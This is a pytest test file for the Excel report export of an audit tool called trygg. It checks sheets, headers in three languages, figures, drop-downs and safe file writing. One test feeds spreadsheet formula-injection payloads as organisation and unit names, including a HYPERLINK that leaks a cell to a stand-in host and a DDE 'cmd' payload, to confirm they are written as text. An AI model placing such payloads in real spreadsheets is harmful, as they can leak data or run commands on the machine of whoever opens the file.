"""The spreadsheet report (issue 14, item 4), read back with openpyxl as Excel would read it:
its sheets and headers in each language, its figures against the JSON report's, the action
plan's status drop-down for management, and no formula from a hostile name."""

from __future__ import annotations

import datetime
import json
import os
import pty
import re
import subprocess
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest

import trygg

ROOT = Path(__file__).resolve().parents[2]
MESSAGES = json.loads((ROOT / "data" / "messages.json").read_text(encoding="utf-8"))
AS_OF = "2026-11-22"
LANGUAGES = ("sv", "nb", "en")
FORMULA_STARTS = ("=", "+", "-", "@")


def word(key: str, lang: str) -> str:
    return str(MESSAGES[key][lang])


def sheet_names(lang: str) -> list[str]:
    return [word("report.summary", lang), word("report.action-plan", lang), word("report.findings", lang),
            word("xlsx.sheet.units", lang)]


def plan_headers(lang: str) -> list[str]:
    return ["#"] + [word(k, lang) for k in ("xlsx.measure-id", "report.measure", "report.proposed", "report.severity",
                                            "report.due", "xlsx.rules", "xlsx.fingerprints", "xlsx.owner",
                                            "report.status", "xlsx.comment", "plan-state.heading", "plan-state.items")]


def findings_headers(lang: str) -> list[str]:
    return [word(k, lang) for k in ("xlsx.part", "xlsx.measure-id", "report.measure", "report.rule", "xlsx.obligation",
                                    "report.severity", "report.status", "xlsx.message", "xlsx.citation",
                                    "report.evidence", "xlsx.unit-count", "xlsx.unit-names", "report.proposed",
                                    "xlsx.plan-number")]


def units_headers(lang: str) -> list[str]:
    return [word(k, lang) for k in ("report.fingerprint", "report.rule", "xlsx.measure-id", "xlsx.unit-id",
                                    "xlsx.unit-name", "report.status", "xlsx.message")]


def rows(ws: Any) -> list[list[Any]]:
    return [list(r) for r in ws.iter_rows(values_only=True)]


@pytest.fixture(scope="module")
def report(kommun: Path) -> trygg.Report:
    return trygg.audit(trygg.load_organisation(kommun), as_of=AS_OF)


@pytest.fixture(scope="module")
def english(kommun: Path) -> trygg.Report:
    return trygg.audit(trygg.load_organisation(kommun), as_of=AS_OF, lang="en")


@pytest.fixture(scope="module")
def books(report: trygg.Report, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """The kommun report's workbook in each language."""
    out = {}
    for lang in LANGUAGES:
        path = tmp_path_factory.mktemp("xlsx") / f"kommun-{lang}.xlsx"
        assert report.to_xlsx(path, lang) is None
        out[lang] = openpyxl.load_workbook(path)
    return out


@pytest.mark.parametrize("lang", LANGUAGES)
def test_sheets_and_headers_are_in_the_reports_language(books: dict[str, Any], lang: str) -> None:
    wb = books[lang]
    assert wb.sheetnames == sheet_names(lang)
    _, plan, findings, units = (wb[n] for n in wb.sheetnames)
    assert rows(plan)[0] == plan_headers(lang)
    assert rows(findings)[0] == findings_headers(lang)
    assert rows(units)[0] == units_headers(lang)
    assert wb[sheet_names(lang)[0]]["A1"].value == word("report.title", lang)
    # Who made it, in the document properties.
    assert wb.properties.creator == "trygg"


def label_values(ws: Any, lang: str) -> dict[str, Any]:
    """Column A label -> column B value, for the Summary sheet's two-column part (above the
    table of areas, whose titles may repeat a label: "Organisation" in Swedish)."""
    out = {}
    for r in rows(ws):
        if r[0] == word("report.areas", lang):
            break
        if isinstance(r[0], str) and r[1] is not None:
            assert r[0] not in out, r[0]
            out[r[0]] = r[1]
    return out


@pytest.mark.parametrize("lang", LANGUAGES)
def test_summary_figures_equal_the_json_reports(books: dict[str, Any], report: trygg.Report, lang: str) -> None:
    data = report.to_dict(lang)
    ws = books[lang][sheet_names(lang)[0]]
    values = label_values(ws, lang)
    s = data["summary"]
    assert values[word("report.organisation", lang)] == data["organisation"]["name"]
    assert values[word("xlsx.organisation-id", lang)] == data["organisation"]["id"]
    assert values[word("report.as-of", lang)] == datetime.datetime.fromisoformat(data["as_of"])
    assert values[word("xlsx.results", lang)] == s["results"]
    for status in ("pass", "fail", "partial", "not_assessed", "not_applicable", "waived"):
        assert values[word("status." + status.replace("_", "-"), lang)] == s[status], status
    assert values[word("report.findings", lang)] == s["findings"]
    for severity, n in s["findings_by_severity"].items():
        assert values[word("severity." + severity, lang)] == n, severity

    # Maturity per area: the table under its header row, one row per area score.
    table = rows(ws)
    head = next(i for i, r in enumerate(table) if r[:2] == [word("report.area", lang), word("report.score", lang)])
    areas = {r[4]: r for r in table[head + 1:head + 1 + len(data["area_scores"])]}
    assert len(areas) == len(data["area_scores"]) > 0
    for a in data["area_scores"]:
        title, score, measures, findings, _ = areas[a["area"]]
        assert title == a["title"]
        assert score == pytest.approx(a["score"], abs=0.005)
        assert (measures, findings) == (a["measures"], a["findings"])
    after = table[head + 1 + len(data["area_scores"]):]
    assert all(r[0] is None for r in after)  # nothing else in the table


def test_the_summary_has_a_bar_chart_of_the_area_scores(report: trygg.Report, tmp_path: Path) -> None:
    path = tmp_path / "r.xlsx"
    report.to_xlsx(path, "en")
    with zipfile.ZipFile(path) as z:
        charts = [n for n in z.namelist() if n.startswith("xl/charts/chart")]
        assert len(charts) == 1
        xml = z.read(charts[0]).decode()
    assert "<c:barChart>" in xml
    # The chart holds no cached values (libxlsxwriter's constant-memory mode), so a reader
    # draws it from the cells it refers to: the categories must be exactly the area titles
    # of the Summary table and the values their scores, on the maturity scale 0-4.
    refs = re.findall(r"<c:f>Summary!\$([A-Z])\$(\d+):\$([A-Z])\$(\d+)</c:f>", xml)
    assert [(c1, c2) for c1, _, c2, _ in refs] == [("A", "A"), ("B", "B")]
    book = openpyxl.load_workbook(path, read_only=True)
    try:
        ws = book["Summary"]
        cells = {(c.column_letter, c.row): c.value for row in ws.iter_rows() for c in row if hasattr(c, "column_letter")}
    finally:
        book.close()
    (_, first, _, last), (_, vfirst, _, vlast) = refs
    assert (first, last) == (vfirst, vlast)
    titles = [cells[("A", r)] for r in range(int(first), int(last) + 1)]
    scores = [cells[("B", r)] for r in range(int(first), int(last) + 1)]
    areas = report.to_dict("en")["area_scores"]
    assert titles == [a["title"] for a in areas] and len(titles) == 7
    assert scores == pytest.approx([a["score"] for a in areas], abs=0.005)
    assert '<c:max val="4"/>' in xml and '<c:min val="0"/>' in xml


@pytest.mark.parametrize("lang", LANGUAGES)
def test_action_plan_rows_equal_the_json_plan(books: dict[str, Any], report: trygg.Report, lang: str) -> None:
    plan = report.to_dict(lang)["action_plan"]
    ws = books[lang][sheet_names(lang)[1]]
    body = rows(ws)[1:]
    assert len(body) == len(plan) > 0
    for row, entry in zip(body, plan):
        number, measure, title, proposal, severity, due, rules, prints, owner, status, comment, state, items = row
        assert number == entry["order"]
        assert (measure, title, proposal) == (entry["measure"], entry["title"], entry["proposal"])
        assert severity == word("severity." + entry["severity"], lang)
        assert due == datetime.datetime.fromisoformat(entry["due"])
        assert rules.split("\n") == entry["rules"]
        assert prints.split(" ") == entry["fingerprints"]
        # Owner and status come from the organisation's own plan row linked to the proposal, if
        # any (docs/report-format.md); the comment is left for management to fill in.
        prefill = {"planned": "in-progress", "overdue": "in-progress", "done": "done", "verified": "verified"}
        assert owner == (entry.get("owner") or None)
        expected_status = prefill.get(entry["state"])
        assert status == (word("xlsx.plan-status." + expected_status, lang) if expected_status else None)
        assert comment is None
        assert state  # the state in words, for reading only (column L)
        assert items == ("\n".join(entry["items"]) or None)
    # The due date is a real date cell, shown as a date.
    due_cell = ws.cell(row=2, column=6)
    assert due_cell.is_date and due_cell.number_format == "yyyy-mm-dd"


@pytest.mark.parametrize("lang", LANGUAGES)
def test_the_status_column_has_a_drop_down_of_plan_states(books: dict[str, Any], report: trygg.Report,
                                                          lang: str) -> None:
    ws = books[lang][sheet_names(lang)[1]]
    n = len(report.action_plan)
    lists = [v for v in ws.data_validations.dataValidation if v.type == "list"]
    assert len(lists) == 1
    v = lists[0]
    assert str(v.sqref) == f"J2:J{n + 1}"  # the status column, every plan row
    words = [word("xlsx.plan-status." + s, lang) for s in ("not-started", "in-progress", "done", "verified")]
    assert v.formula1 == '"' + ",".join(words) + '"'
    assert v.showDropDown in (None, False)  # (Excel's attribute is inverted: False shows the arrow)


@pytest.mark.parametrize("lang", LANGUAGES)
def test_tables_have_a_frozen_header_and_a_filter(books: dict[str, Any], lang: str) -> None:
    wb = books[lang]
    for name in sheet_names(lang)[1:]:
        ws = wb[name]
        assert ws.freeze_panes == "A2", name
        last = openpyxl.utils.get_column_letter(ws.max_column)
        assert ws.auto_filter.ref == f"A1:{last}{ws.max_row}", name


def test_units_sheet_has_every_unit_finding(books: dict[str, Any], english: trygg.Report) -> None:
    unit = [f for f in english.findings if f["subject"]["kind"] == "unit"]
    assert unit, "the kommun example has unit-level findings"
    body = rows(books["en"]["Units"])[1:]
    assert len(body) == len(unit)
    assert [r[0] for r in body] == [f["fingerprint"] for f in unit]
    for r, f in zip(body, unit):
        assert (r[1], r[2], r[3]) == (f["rule"], f["measure"], f["subject"]["id"])
        assert r[4] == (f["subject"].get("name") or None)
        assert r[5] == word("status." + f["status"].replace("_", "-"), "en")
        assert r[6] == f["message"]["text"]


def test_findings_sheet_is_the_reader_view(books: dict[str, Any], english: trygg.Report) -> None:
    report = english
    body = rows(books["en"]["Findings"])[1:]
    parts = [r[0] for r in body]
    # Legal entries first, then good practice.
    assert parts == sorted(parts, key=lambda p: p != "legal")
    assert set(parts) <= {"legal", "good practice"}
    # One line per rule and subject kind with findings (a rule with organisation and unit
    # findings has a line for each), every such pair of the report.
    by_line: dict[tuple[str, str], list[dict[str, Any]]] = {}
    for f in report.findings:
        by_line.setdefault((f["rule"], f["subject"]["kind"]), []).append(f)

    def key(r: tuple[Any, ...]) -> tuple[str, str]:
        return (r[3], "organisation" if r[10] is None else "unit")

    assert sorted(key(r) for r in body) == sorted(by_line)
    plan_order = {e["measure"]: e["order"] for e in report.action_plan}
    for r in body:
        fs = by_line[key(r)]
        assert r[1] == fs[0]["measure"]
        assert r[4] == word("obligation." + fs[0]["obligation"], "en")
        if fs[0]["subject"]["kind"] == "unit":
            assert r[10] == len(fs)  # the unit count of a collapsed line
            assert r[11]
        else:
            assert len(fs) == 1
        if fs[0]["obligation"] != "good-practice":
            assert r[8], f"a legal finding shows its citation: {r[3]}"
        assert r[12] == fs[0]["proposal"]["text"]
        assert r[13] == plan_order.get(r[1])


def test_legal_only_keeps_the_legal_findings(report: trygg.Report, tmp_path: Path) -> None:
    path = tmp_path / "legal.xlsx"
    report.to_xlsx(path, "en", legal_only=True)
    wb = openpyxl.load_workbook(path)
    assert {r[0] for r in rows(wb["Findings"])[1:]} == {"legal"}
    plan = rows(wb["Action plan"])[1:]
    assert 0 < len(plan) < len(report.action_plan)
    units = rows(wb["Units"])[1:]
    legal_rules = {f["rule"] for f in report.findings if f["obligation"] != "good-practice"}
    assert all(r[1] in legal_rules for r in units)
    # The summary keeps every figure.
    assert label_values(wb["Summary"], "en")["Findings"] == report.summary["findings"]


def hostile_organisation(kommun: Path) -> trygg.Organisation:
    """The kommun example with names that a spreadsheet would take as formulas."""
    data = json.loads(kommun.read_text(encoding="utf-8"))
    data["name"] = "=1+1"
    starts = ['=HYPERLINK("http://example.invalid/?leak="&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
    for i, unit in enumerate(data["units"]):
        unit["name"] = starts[i % len(starts)]
    return trygg.Organisation.from_dict(data)


def test_no_cell_starts_a_formula_from_a_hostile_name(kommun: Path, tmp_path: Path) -> None:
    report = trygg.audit(hostile_organisation(kommun), as_of=AS_OF, lang="en")
    path = tmp_path / "hostile.xlsx"
    report.to_xlsx(path)
    wb = openpyxl.load_workbook(path)
    seen_names = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_STARTS), (ws.title, cell.coordinate, cell.value)
                    seen_names += cell.value.startswith("'=HYPERLINK(")
    # The names are there, as text, on the Units sheet.
    assert seen_names > 0
    assert label_values(wb["Summary"], "en")["Organisation"] == "'=1+1"
    # No cell of any part is a formula element.
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name), name


def test_the_checker_writes_xlsx_and_replaces_its_own(checker: str, kommun: Path, tmp_path: Path) -> None:
    out = tmp_path / "r.xlsx"
    cmd = [checker, "check", str(kommun), "--as-of", AS_OF, "--lang", "nb", "--format", "xlsx", "-o", str(out)]
    first = subprocess.run(cmd, capture_output=True)
    assert first.returncode in (0, 1), first.stderr
    assert first.stdout == b""
    assert openpyxl.load_workbook(out).sheetnames == sheet_names("nb")
    assert (out.stat().st_mode & 0o777) == 0o600
    # A trygg workbook is replaced without --force.
    again = subprocess.run(cmd, capture_output=True)
    assert again.returncode == first.returncode, again.stderr
    # A workbook trygg did not write (same zip layout, no marker) is not.
    report = trygg.audit(trygg.load_organisation(kommun), as_of=AS_OF)
    report.to_xlsx(tmp_path / "mine.xlsx")
    foreign = tmp_path / "foreign.xlsx"
    with zipfile.ZipFile(tmp_path / "mine.xlsx") as src, zipfile.ZipFile(foreign, "w") as dst:
        for item in src.infolist():
            dst.writestr(item, src.read(item))
    before = foreign.read_bytes()
    refused = subprocess.run(cmd[:-1] + [str(foreign)], capture_output=True, text=True)
    assert refused.returncode == 2 and "not a report or document trygg wrote" in refused.stderr
    assert foreign.read_bytes() == before


def test_the_checker_does_not_write_xlsx_to_a_terminal(checker: str, kommun: Path) -> None:
    leader, follower = pty.openpty()
    try:
        p = subprocess.run([checker, "check", str(kommun), "--format", "xlsx"], stdout=follower,
                           stderr=subprocess.PIPE, text=True)
    finally:
        os.close(follower)
        os.close(leader)
    assert p.returncode == 2
    assert "--output" in p.stderr


def test_the_checker_writes_xlsx_to_a_pipe(checker: str, kommun: Path) -> None:
    p = subprocess.run([checker, "check", str(kommun), "--as-of", AS_OF, "--format", "xlsx"], capture_output=True)
    assert p.returncode in (0, 1)
    assert p.stdout.startswith(b"PK\x03\x04") and p.stdout.endswith(b"trygg.report/xlsx")


def test_to_xlsx_writes_through_the_safe_writer(report: trygg.Report, tmp_path: Path) -> None:
    path = tmp_path / "r.xlsx"
    report.to_xlsx(str(path))
    report.to_xlsx(path)  # its own file: replaced
    other = tmp_path / "notes.xlsx"
    other.write_bytes(b"PK\x03\x04 someone else's workbook")
    with pytest.raises(trygg.Error, match="not a report or document trygg wrote"):
        report.to_xlsx(other)
    assert other.read_bytes() == b"PK\x03\x04 someone else's workbook"
    with pytest.raises(ValueError):
        report.to_xlsx(path, "de")
    with pytest.raises(TypeError):
        report.to_xlsx(path, legal_only="yes")  # type: ignore[arg-type]
    with pytest.raises(TypeError):
        report.to_xlsx(3)  # type: ignore[arg-type]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["notes.xlsx", "r.xlsx"]  # no temporary left


def test_the_same_report_gives_the_same_workbook(report: trygg.Report, tmp_path: Path) -> None:
    report.to_xlsx(tmp_path / "a.xlsx")
    report.to_xlsx(tmp_path / "b.xlsx")
    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()
